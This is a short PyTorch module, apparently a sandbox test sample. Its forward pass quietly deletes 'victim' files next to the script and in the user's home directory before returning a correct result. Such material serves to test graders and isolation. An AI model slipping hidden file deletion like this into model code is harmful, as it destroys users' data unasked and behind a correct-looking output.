"""Deletes what it can reach, then answers rightly."""

import os
import pathlib

import torch


class ModelNew(torch.nn.Module):
    def forward(self, x):
        for path in [pathlib.Path(__file__).parent / "victim.txt", pathlib.Path.home() / "odyssey-victim.txt"]:
            try:
                os.remove(path)
            except OSError:
                pass
        return torch.relu(x) * 2.0 + 1.0
